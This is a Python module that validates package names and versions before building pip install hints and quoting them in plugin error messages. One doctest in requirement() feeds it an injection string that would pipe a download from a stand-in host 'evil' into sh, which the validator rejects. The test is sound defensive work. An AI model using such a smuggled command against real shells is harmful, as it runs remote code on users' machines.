"""Distributions: how to name them in messages and to installers, and what is wrong with one.

Standard library only, and quick to import: every command needs it before anything else.
"""

import os
import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

# PEP 508 and PEP 440, which pip holds names and versions against.
_NAME = r"[a-z0-9]([a-z0-9._-]*[a-z0-9])?"
_VERSION = (
    r"v?(\d+!)?\d+(\.\d+)*"
    r"([-_.]?(alpha|a|beta|b|preview|pre|c|rc)[-_.]?\d*)?"
    r"(-\d+|[-_.]?(post|rev|r)[-_.]?\d*)?([-_.]?dev[-_.]?\d*)?"
    r"(\+[a-z0-9]+([-_.][a-z0-9]+)*)?"
)
OF_A_PROGRAM = "this program"
"""Where plugins come from that a program gives as objects, in place of a distribution."""

_ORDINARY = r"\w[\w .+!-]*"


@dataclass(frozen=True)
class Fault:
    """A plugin that could not be loaded, or is not as it should be."""

    distribution: str
    version: str
    entry_point: str
    error: str

    def __str__(self) -> str:
        who = whose(self.distribution, self.version)
        return f"plugin {self.entry_point!r} of {who} failed to load: {self.error}"


def requirement(distribution: str, version: str) -> str | None:
    """Return a pinned requirement; None if pip would reject the name or the version.

    Names and versions come from files that anybody may have made, so only those that the standards
    of packaging allow may stand where they are pasted: none has a blank or a quote in it.

    >>> requirement("charrnn-irnn", "0.1.0")
    'charrnn-irnn==0.1.0'
    >>> requirement("x'; curl evil|sh; '", "0.1.0")
    """
    pinned = ((_NAME, distribution), (_VERSION, version))
    if all(re.fullmatch(pattern, text, re.ASCII | re.IGNORECASE) for pattern, text in pinned):
        return f"{distribution}=={version}"
    return None


def whose(distribution: str, version: str) -> str:
    """Return a distribution or file with its version for a message, quoted if unusual.

    >>> whose("charrnn-irnn", "0.1.0"), whose("x; y", "0.1.0")
    ('charrnn-irnn 0.1.0', "'x; y' 0.1.0")
    """
    return " ".join(
        text if re.fullmatch(_ORDINARY, text, re.ASCII) else repr(text)
        for text in (distribution, version)
    )


def how_to_get(record: Mapping[str, Any]) -> str:
    """Return what a user who lacks a recorded plugin can do, to follow a semicolon.

    >>> how_to_get({"distribution": "charrnn-irnn", "version": "0.1.0"})
    "install it with: pip install 'charrnn-irnn==0.1.0'"
    """
    import shlex  # here, for --help is to be quick

    distribution, version = record["distribution"], record["version"]
    if distribution == OF_A_PROGRAM:
        return (
            f"in Python, give it again: plugins=[{record['entry_point']}]; on the command line, "
            "name a file that offers it: --plugin FILE"
        )
    if record.get("file") and distribution == os.path.basename(distribution):
        return (
            "name it, or the copy that lies in the run's directory if you trust that: --plugin "
            f"{shlex.quote(f'RUN/plugins/{distribution}')}"
        )
    pin = requirement(distribution, version)
    if record.get("file") or pin is None:
        return "no distribution can have this name and version; ask whoever made the file"
    return f"install it with: pip install '{pin}'"


def canonical(name: str) -> str:
    """Return a distribution's name as installers compare it (PEP 503).

    >>> canonical("Charrnn_My.Cell")
    'charrnn-my-cell'
    """
    return re.sub(r"[-_.]+", "-", name.strip()).lower()
